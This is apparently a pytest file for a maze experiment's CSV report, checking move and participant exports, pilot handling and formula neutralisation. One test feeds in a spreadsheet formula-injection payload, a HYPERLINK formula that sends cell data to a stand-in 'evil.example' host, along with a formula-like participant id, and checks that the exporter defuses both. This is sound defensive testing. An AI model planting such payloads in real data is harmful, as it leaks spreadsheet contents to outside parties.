"""The play report: moves.csv (moves and bumps in order, response times), participants.csv
(orders, answers, consent, Prolific fields, pilots) and the report's participants section."""

from __future__ import annotations

import csv

import pytest

from mazesim.play.report import MOVE_COLUMNS, MOVES_CSV, PARTICIPANTS_CSV, build_play_report
from mazesim.play.run import open_run

from tests.play.conftest import CORRIDOR, TUTORIAL


def _csv(path):
    with open(path, encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture
def run(session_factory, tmp_path):
    (tmp_path / "consent.md").write_text("Agree?", encoding="utf-8")
    session = session_factory(
        [(CORRIDOR, "full"), (TUTORIAL, 1)], practice=[(CORRIDOR, {"isovist": 3, "map": "known"})],
        order="latin",
        participants={"pilot": ["pilot"]}, pages={"consent": "consent.md"},
        questions=[{"id": "age", "kind": "number", "text": "Age", "when": "start"},
                   {"id": "fun", "kind": "choice", "text": "Fun?", "options": ["yes", "no"],
                    "required": False}])
    rec = open_run(session)
    rec.join("p1")
    rec.consent("p1", True)
    rec.answer("p1", {"age": 31})
    rec.start("p1", "p0", t=1000.0)
    rec.bump("p1", "p0", 1, 1, "up", 1250.0)
    for seq, t in ((1, 1400.0), (2, 1500.0), (3, 1800.5)):
        rec.move("p1", "p0", seq, "right", t)
    rec.start("p1", "m0")                                # no client times: server clock
    rec.move("p1", "m0", 1, "right")
    rec.join("pilot")
    rec.consent("pilot", True)
    rec.answer("pilot", {"age": 99})
    rec.start("pilot", "p0")
    for seq in (1, 2, 3):
        rec.move("pilot", "p0", seq, "right")
    rec.start("pilot", "m0")                             # pilots count apart: row 0 too
    for seq in (1, 2, 3):
        rec.move("pilot", "m0", seq, "right")
    rec.join("shy")
    rec.consent("shy", False)
    rec.store.close()
    return session.output


def test_moves_csv_lists_every_key_press_in_order(run):
    build_play_report(run)
    rows = _csv(run / MOVES_CSV)
    assert list(rows[0]) == list(MOVE_COLUMNS)
    p1 = [r for r in rows if r["participant"] == "p1"]
    assert [(r["maze"], r["practice"], r["position"], r["seq"], r["kind"], r["direction"],
             r["row"], r["col"], r["client_ms"], r["response_ms"]) for r in p1[:4]] == [
        ("p0", "1", "1", "1", "bump", "up", "1", "1", "1250.0", "250.0"),
        ("p0", "1", "1", "1", "move", "right", "1", "2", "1400.0", "150.0"),
        ("p0", "1", "1", "2", "move", "right", "1", "3", "1500.0", "100.0"),
        ("p0", "1", "1", "3", "move", "right", "1", "4", "1800.5", "300.5")]
    last = p1[4]
    assert (last["maze"], last["position"], last["kind"], last["client_ms"]) == (
        "m0", "2", "move", "")
    assert 0 <= float(last["response_ms"]) < 60_000                  # server clock
    assert {r["pilot"] for r in rows if r["participant"] == "pilot"} == {"1"}
    assert [r["maze"] for r in rows if r["participant"] == "pilot"] == ["p0"] * 3 + ["m0"] * 3


def test_the_play_report_opens_the_run_twice(run, monkeypatch):
    """Each opening of a run checks every trajectory file: the experiment report opens it once
    (its CSV exports read on connections of their own) and the participants' part once more
    (it used to open it six times)."""
    from mazesim.experiment import background
    from mazesim.experiment.storage import RunStore

    monkeypatch.setattr(background, "_worth_forking", lambda: False)
    opened = []
    init = RunStore.__init__
    monkeypatch.setattr(RunStore, "__init__",
                        lambda self, *a, **k: opened.append(1) or init(self, *a, **k))
    build_play_report(run)
    assert len(opened) == 2 and len(_csv(run / PARTICIPANTS_CSV)) == 5


def test_participants_csv_has_orders_answers_and_pilots(run):
    build_play_report(run)
    rows = _csv(run / PARTICIPANTS_CSV)
    assert [(r["participant"], r["maze"], r["position"], r["order"], r["pilot"], r["bumps"],
             r["consent"], r["answer:age"], r["answer:fun"]) for r in rows] == [
        ("p1", "p0", "1", "p0 m0 m1", "0", "1", "1", "31", ""),
        ("p1", "m0", "2", "p0 m0 m1", "0", "0", "1", "31", ""),
        ("pilot", "p0", "1", "p0 m0 m1", "1", "0", "1", "99", ""),
        ("pilot", "m0", "2", "p0 m0 m1", "1", "0", "1", "99", ""),
        ("shy", "", "", "p0 m1 m0", "0", "0", "0", "", "")]
    assert [r["vision"] for r in rows] == ["isovist 3, map known", "full"] * 2 + [""]  # as stored


def test_the_report_leaves_pilots_out(run):
    report = build_play_report(run)
    text = report.path.read_text(encoding="utf-8")
    section = text[text.index("## Participants"):]
    assert "Pilot participants, left out of this report and its statistics" in section
    assert "| p1 | m0 | full | 1 | no |" in section and "| pilot |" not in section
    assert "| shy |" not in section
    trials = _csv(run / "trials.csv")
    assert [(t["agent"], t["seed"], t["participant"]) for t in trials] == [
        ("human-pilot", "", "pilot")]
    summary = text[:text.index("## Participants")]
    assert "| human-pilot |" not in summary


def test_formula_answers_and_ids_are_neutralised_in_every_csv(session_factory):
    """The issue's cells: a free-text answer and an id that a spreadsheet would run."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    session = session_factory([(CORRIDOR, "full")], questions=[
        {"id": "notes", "kind": "text", "text": "Notes", "when": "start"}], output="formulas")
    rec = open_run(session)
    rec.join("-A1-B1")
    rec.answer("-A1-B1", {"notes": formula})
    rec.start("-A1-B1", "m0")
    for seq in (1, 2, 3):
        rec.move("-A1-B1", "m0", seq, "right")
    rec.store.close()
    build_play_report(session.output)
    (row,) = _csv(session.output / PARTICIPANTS_CSV)
    assert row["participant"] == "'-A1-B1" and row["answer:notes"] == "'" + formula
    assert row["moves"] == "3"
    assert {r["participant"] for r in _csv(session.output / MOVES_CSV)} == {"'-A1-B1"}
    (trial,) = _csv(session.output / "trials.csv")
    assert trial["participant"] == "'-A1-B1" and trial["moves"] == "3"
